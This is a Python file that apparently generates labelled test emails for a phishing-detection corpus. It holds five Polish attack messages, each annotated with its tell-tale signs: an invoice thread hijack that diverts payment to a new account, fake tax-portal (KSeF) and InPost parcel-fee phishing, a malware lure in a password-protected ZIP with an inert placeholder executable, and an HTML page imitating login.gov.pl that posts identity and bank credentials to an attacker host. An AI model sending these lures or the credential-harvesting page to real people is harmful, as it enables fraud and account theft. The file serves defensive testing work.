# -*- coding: utf-8 -*-
"""Attack messages 22-26 (Polish)."""
from msgkit import *  # noqa: F401,F403

PL_INV_ORIG = "<6b1d0c1e-8a52-4f77-9d0b-3e4c21a9f5d8@partner-logistik.pl>"
PL_INV_REPLY = "<5d2c8e7f41a34b0c9e6f1a2b3c4d5e6f@EXCH01.ad.example.com>"


@message("attack", 22, "pl", "partner-logistik-thread-hijack-konto",
         "Thread hijack from the genuinely compromised mailbox of Tadeusz Zieliński (Partner Logistik): in the real invoice thread he announces a bank switch and asks to pay invoice FV/2026/11/0342 (PLN 41,328.60) to a new account",
         "Real partner mailbox (account takeover) but sent from the hoster's webmail through a foreign IP instead of his Thunderbird, Reply-To diverted to the look-alike partner-logistlk.pl; new account not on the VAT white list (biała lista) and he asks not to hold the payment because of that",
         pair="business 22",
         note="Genuine invoice from ksiegowosc@partner-logistik.pl with the Pekao account; genuine mail from Mr Zieliński is sent with Thunderbird")
def a22():
    p = infra.SMTPHost(mua="roundcube", software="homepl", host="cloudserver094282.home.pl",
                       host_ip="46.242.241.78", rdns="cloudserver094282.home.pl", msgid_domain="partner-logistik.pl")
    iban = P("mule_pl22")
    txt = """Dzień dobry Pani Małgorzato,

dziękuję za informację o terminie płatności. Uprzejmie informuję, że w związku z przeniesieniem obsługi bankowej naszej spółki z Banku Pekao do Banku Millennium rachunek w Pekao od 10 listopada przyjmuje już tylko rozliczenia sprzed tej daty.

Prosimy o uregulowanie faktury FV/2026/11/0342 (41 328,60 zł) oraz kolejnych faktur na nowy rachunek:

Partner Logistik sp. z o.o.
Bank Millennium S.A.
%s

Aktualizacja rachunku na białej liście podatników VAT nastąpi w ciągu kilku dni roboczych - prosimy nie wstrzymywać z tego powodu płatności, termin jest dla nas ważny ze względu na zamknięcie miesiąca. Potwierdzenie z banku prześlę, jak tylko je otrzymam.

Proszę o krótkie potwierdzenie zmiany danych w Państwa systemie.

Z poważaniem
Tadeusz Zieliński
Kierownik ds. rozliczeń
Partner Logistik sp. z o.o.

W dniu 12.11.2026 o 15:02, Małgorzata Wiśniewska napisał(a):
> Dzień dobry,
> faktura FV/2026/11/0342 zostanie opłacona zgodnie z terminem, tj. 17.11.
> Pozdrawiam
> Małgorzata Wiśniewska
""" % iban
    body = text(txt, "plain", "iso-8859-2", "quoted-printable", quote=False, flowed=True)
    return make("a22", p, bt(2026, 11, 13, 19, 41, 8), "t.zielinski@partner-logistik.pl", S("pl_acc")[1],
                ("Tadeusz Zieliński", "t.zielinski@partner-logistik.pl"), S("pl_acc"),
                "Odp: Faktura FV/2026/11/0342 – magazynowanie październik", body,
                reply_to=("Tadeusz Zieliński", "t.zielinski@partner-logistlk.pl"),
                in_reply_to=PL_INV_REPLY, references=PL_INV_ORIG + "\n " + PL_INV_REPLY,
                user_ip="102.129.152.61", user_rdns="unknown", user_lan="10.8.3.2", lang_tag="pl",
                hdr_cs="iso-8859-2", hdr_enc="Q")


@message("attack", 23, "pl", "ksef-nowa-faktura-logowanie",
         "E-invoicing phishing: 'KSeF - Ministerstwo Finansów' says a structured invoice from a known supplier awaits 'receipt confirmation' and asks to log in with Profil Zaufany or a KSeF token",
         "KSeF does not e-mail per-invoice login links and has no 7-day 'receipt confirmation'; domain ksef-podatki-gov.pl is not gov.pl; sent via Mailgun; the supplier name is that of a real supplier whose genuine invoice arrives the same day",
         pair="business 23",
         note="Genuine Chem-Pol invoice arrives from the invoicing service with the PDF visualisation and the real KSeF number, no login link")
def a23():
    p = infra.ESP(kind="mailgun", mg_domain="mg.ksef-podatki-gov.pl")
    url = "https://ksef-podatki-gov.pl/web/odbior?nr=8992815576-20261116-5D09E3A7C214-91&nip=8971843024"
    txt = """Krajowy System e-Faktur
Powiadomienie o nowej fakturze ustrukturyzowanej

Nabywca (NIP): 8971843024 – Example Group Polska sp. z o.o.
Wystawca: Hurtownia DDD Chem-Pol sp. z o.o. (NIP 8992815576)
Numer KSeF: 8992815576-20261116-5D09E3A7C214-91
Data przyjęcia: 16.11.2026 09:41
Kwota brutto: 18 911,40 zł

Faktura oczekuje na potwierdzenie odbioru przez nabywcę. Faktury niepotwierdzone w ciągu 7 dni zostaną oznaczone jako nieodebrane, co może skutkować brakiem prawa do odliczenia VAT w bieżącym okresie.

Pobierz fakturę i potwierdź odbiór:
%s

Logowanie: profil zaufany, e-dowód, bankowość elektroniczna lub token KSeF.

Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać.
Ministerstwo Finansów
""" % url
    html = """<html><head><meta charset="utf-8"></head><body style="font-family:Arial,sans-serif;color:#1b1b1b">
<div style="max-width:620px;margin:auto;border:1px solid #d5d5d5">
<div style="background:#d4213d;color:#fff;padding:14px 20px;font-size:18px">Krajowy System e-Faktur</div>
<div style="padding:20px;font-size:14px">
<p><b>Powiadomienie o nowej fakturze ustrukturyzowanej</b></p>
<table style="font-size:14px" cellpadding="3">
<tr><td>Nabywca (NIP):</td><td>8971843024 – Example Group Polska sp. z o.o.</td></tr>
<tr><td>Wystawca:</td><td>Hurtownia DDD Chem-Pol sp. z o.o. (NIP 8992815576)</td></tr>
<tr><td>Numer KSeF:</td><td>8992815576-20261116-5D09E3A7C214-91</td></tr>
<tr><td>Data przyjęcia:</td><td>16.11.2026 09:41</td></tr>
<tr><td>Kwota brutto:</td><td>18 911,40 zł</td></tr></table>
<p>Faktura oczekuje na potwierdzenie odbioru przez nabywcę. Faktury niepotwierdzone w ciągu 7 dni zostaną oznaczone jako nieodebrane, co może skutkować brakiem prawa do odliczenia VAT w bieżącym okresie.</p>
<p><a href="%s" style="background:#0052a5;color:#fff;padding:10px 20px;text-decoration:none">Pobierz fakturę i potwierdź odbiór</a></p>
<p style="font-size:12px;color:#666">Logowanie: profil zaufany, e-dowód, bankowość elektroniczna lub token KSeF.<br>Wiadomość wygenerowana automatycznie – prosimy na nią nie odpowiadać. Ministerstwo Finansów</p>
</div></div></body></html>
""" % esc(url)
    body = alt(txt, html, "utf-8", "base64")
    return make("a23", p, bt(2026, 11, 16, 11, 2, 51), "bounce+1f9e22.77c1-malgorzata.wisniewska=example.com@mg.ksef-podatki-gov.pl",
                S("pl_acc")[1], ("KSeF – Ministerstwo Finansów", "powiadomienia@ksef-podatki-gov.pl"), S("pl_acc"),
                "KSeF: nowa faktura od Hurtownia DDD Chem-Pol sp. z o.o. oczekuje na odbiór", body)


@message("attack", 24, "pl", "inpost-doplata-wordpress",
         "Courier phishing: 'InPost' says a parcel is held for an incomplete address and asks for a PLN 2.49 fee within 48 h",
         "InPost display name on a compromised bicycle shop's WordPress (PHPMailer via Exim on shared hosting); link to inpost-pl.paczka-doplata.com; micro-payment to steal card data; no real shipment")
def a24():
    p = infra.SMTPHost(mua="phpmailer", software="exim-local", host="s47.cyber-folks.pl", host_ip="195.78.66.47",
                       rdns="s47.cyber-folks.pl", helo="s47.cyber-folks.pl", msgid_domain="sklep-rowerowy-kolo.pl")
    url = "https://inpost-pl.paczka-doplata.com/track/620044718803219870115433"
    txt = """InPost

Twoja paczka nie może zostać doręczona

Numer przesyłki: 620044718803219870115433

Paczka oczekuje w sortowni Wrocław. Z powodu niepełnego adresu (brak numeru lokalu) doręczenie zostało wstrzymane.

Aby wybrać nowy termin lub Paczkomat®, uiść opłatę za ponowne doręczenie 2,49 zł w ciągu 48 godzin. Po tym czasie przesyłka zostanie zwrócona do nadawcy.

Zaktualizuj dane doręczenia: %s

Zespół InPost
""" % url
    html = """<html><body style="font-family:Arial,sans-serif;background:#f4f4f4">
<table width="560" align="center" style="background:#fff"><tr><td style="background:#ffcd00;padding:16px 22px;font-size:24px;font-weight:bold;color:#1d1d1b">InPost</td></tr>
<tr><td style="padding:22px;font-size:14px;color:#1d1d1b">
<p style="font-size:18px"><b>Twoja paczka nie może zostać doręczona</b></p>
<p>Numer przesyłki: <b>620044718803219870115433</b></p>
<p>Paczka oczekuje w sortowni Wrocław. Z powodu niepełnego adresu (brak numeru lokalu) doręczenie zostało wstrzymane.</p>
<p>Aby wybrać nowy termin lub Paczkomat&reg;, uiść opłatę za ponowne doręczenie <b>2,49 zł</b> w ciągu 48 godzin. Po tym czasie przesyłka zostanie zwrócona do nadawcy.</p>
<p><a href="%s" style="background:#1d1d1b;color:#ffcd00;padding:10px 22px;text-decoration:none;font-weight:bold">Zaktualizuj dane doręczenia</a></p>
<p style="color:#777;font-size:12px">Zespół InPost</p></td></tr></table></body></html>
""" % esc(url)
    body = alt(txt, html, "utf-8", "quoted-printable")
    return make("a24", p, bt(2026, 10, 28, 17, 26, 4), "powiadomienia@sklep-rowerowy-kolo.pl", S("pl_mgr")[1],
                ("InPost", "powiadomienia@sklep-rowerowy-kolo.pl"), S("pl_mgr"),
                "Twoja paczka 620044718803219870115433 – wymagana dopłata", body)


@message("attack", 25, "pl", "zapytanie-ofertowe-zip-haslo",
         "Malware lure: a 'purchasing department' RFQ for DDD services in three distribution centres, with a password-protected ZIP (password in the text) containing 'Zapytanie_ofertowe_LP-2026-114.pdf.exe'",
         "Unknown company writing from a free onet.pl mailbox; the tender pack is an encrypted archive so the gateway cannot scan it; double extension .pdf.exe (inert placeholder); plausible trade-specific pretext and deadline",
         pair="business 25",
         note="Genuine RFQ comes from the prospect's own M365 domain with a readable PDF specification")
def a25():
    p = infra.Webmail(kind="onet")
    txt = """Dzień dobry,

w imieniu Logistyka Polska Centrum sp. z o.o. zapraszamy Państwa firmę do złożenia oferty na kompleksową usługę DDD (deratyzacja, dezynsekcja, dezynfekcja) w trzech centrach dystrybucyjnych: Gliwice (24 000 m2), Sosnowiec (18 500 m2) i Tychy (11 200 m2), na okres 01.01.2027–31.12.2028.

Szczegółowa specyfikacja, plany obiektów oraz formularz ofertowy znajdują się w załączonym archiwum. Ze względu na poufność dokumentacji archiwum jest zabezpieczone hasłem: LP2026114

Termin składania ofert: 27.11.2026 r., godz. 12:00.

Z poważaniem
Anna Kaczmarek
Specjalista ds. zakupów
Logistyka Polska Centrum sp. z o.o.
"""
    z = zip_att([("Zapytanie_ofertowe_LP-2026-114.pdf.exe", A.PLACEHOLDER)], "Zapytanie_ofertowe_LP-2026-114.zip",
                password="LP2026114", seed="a25", when=(2026, 11, 20, 9, 55, 12))
    body = multipart("mixed", [text(txt, "plain", "windows-1250", "quoted-printable"), z])
    return make("a25", p, bt(2026, 11, 20, 10, 3, 39), "zakupy.lpcentrum@onet.pl", S("pl_mgr")[1],
                ("Anna Kaczmarek - Logistyka Polska Centrum", "zakupy.lpcentrum@onet.pl"), S("pl_mgr"),
                "Zapytanie ofertowe LP-2026-114 – usługi DDD, 3 centra dystrybucyjne", body,
                user_ip="91.231.44.210", user_rdns="host-91-231-44-210.vectranet.pl", user_lan="192.168.0.14",
                hdr_cs="windows-1250", hdr_enc="Q")


@message("attack", 26, "pl", "sanepid-wezwanie-html-logingovpl",
         "Regulator phishing: 'PSSE Wrocław' (sanitary inspectorate) summons the company to complete DDD documentation for customer sites; HTML attachment imitates login.gov.pl (Profil Zaufany / bank login)",
         "Inspectorates serve summons via ePUAP / e-Doręczenia from gov.pl, not by e-mail with HTML files; look-alike psse-wroclaw.com.pl; the attached page posts identity-provider credentials to an attacker host; penalty threat and 7-day deadline; uses a real customer's name for credibility",
         pair="business 24, business 26",
         note="Genuine mail about Sanepid comes from the customer (complaint) and from the trade association's newsletter - neither asks for a login")
def a26():
    p = infra.SMTPHost(mua="roundcube", software="exim", host="srv17.mikr.us", host_ip="185.243.53.97",
                       rdns="srv17.mikr.us", msgid_domain="psse-wroclaw.com.pl")
    txt = """Szanowni Państwo,

w związku z planowaną kontrolą sanitarną zakładów, w których Państwa firma świadczy usługi DDD na podstawie umów (m.in. Piekarnia Nowak, Oleśnica), Państwowy Powiatowy Inspektor Sanitarny we Wrocławiu wzywa do uzupełnienia dokumentacji:
- wykaz stosowanych produktów biobójczych wraz z numerami pozwoleń,
- karty charakterystyki,
- protokoły z ostatnich zabiegów deratyzacji i dezynsekcji.

Wezwanie wraz z formularzem do przekazania dokumentów znajduje się w załączniku. Dostęp do formularza wymaga potwierdzenia tożsamości przez login.gov.pl (profil zaufany lub bankowość elektroniczna).

Termin: 7 dni od dnia doręczenia. Nieuzupełnienie dokumentacji może skutkować wszczęciem postępowania administracyjnego i nałożeniem kary pieniężnej.

Z poważaniem
Sekcja Higieny Żywności, Żywienia i Przedmiotów Użytku
Powiatowa Stacja Sanitarno-Epidemiologiczna we Wrocławiu
"""
    page = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="iso-8859-2"><title>login.gov.pl - Wezwanie NZ.9022.114.2026</title>
<style>body{font-family:Lato,Arial,sans-serif;background:#f5f5f5;margin:0}
.top{background:#fff;border-bottom:1px solid #ddd;padding:14px 30px;font-size:20px;color:#d4213d}
.b{width:480px;margin:40px auto;background:#fff;padding:30px;border:1px solid #ddd}
input,select{width:100%;padding:9px;margin:6px 0 14px;border:1px solid #999}
button{background:#0052a5;color:#fff;border:0;padding:11px;width:100%;font-size:15px}</style></head>
<body><div class="top">login.gov.pl &nbsp;<span style="color:#555;font-size:14px">Węzeł Krajowy</span></div>
<div class="b"><h3>Potwierdź tożsamość, aby otworzyć pismo NZ.9022.114.2026</h3>
<form method="post" action="https://wezwania-psse.com.pl/wk/auth.php">
<label>Sposób logowania</label>
<select name="idp"><option>Profil zaufany</option><option>PKO BP</option><option>Pekao</option><option>mBank</option><option>ING</option><option>Santander</option></select>
<label>Nazwa użytkownika lub e-mail</label><input name="u" type="text">
<label>Hasło</label><input name="p" type="password">
<button type="submit">Zaloguj się</button></form>
<p style="font-size:12px;color:#666">Pismo: Wezwanie do uzupełnienia dokumentacji DDD - PSSE we Wrocławiu</p></div></body></html>
"""
    att = attachment(page.encode("iso-8859-2"), "text/html", "Wezwanie_PSSE_NZ.9022.114.2026.html",
                     kind="HTML", extra_ct=[("charset", "iso-8859-2", True)])
    body = multipart("mixed", [alt(txt, html_simple(txt, "iso-8859-2"), "iso-8859-2", "base64"), att])
    return make("a26", p, bt(2026, 12, 2, 9, 14, 58), "sekretariat@psse-wroclaw.com.pl", S("pl_mgr")[1],
                ("PSSE we Wrocławiu", "sekretariat@psse-wroclaw.com.pl"), S("pl_mgr"),
                "Wezwanie do uzupełnienia dokumentacji DDD – NZ.9022.114.2026", body,
                user_ip="185.243.53.97", user_lan="127.0.0.1", hdr_cs="iso-8859-2", hdr_enc="B")
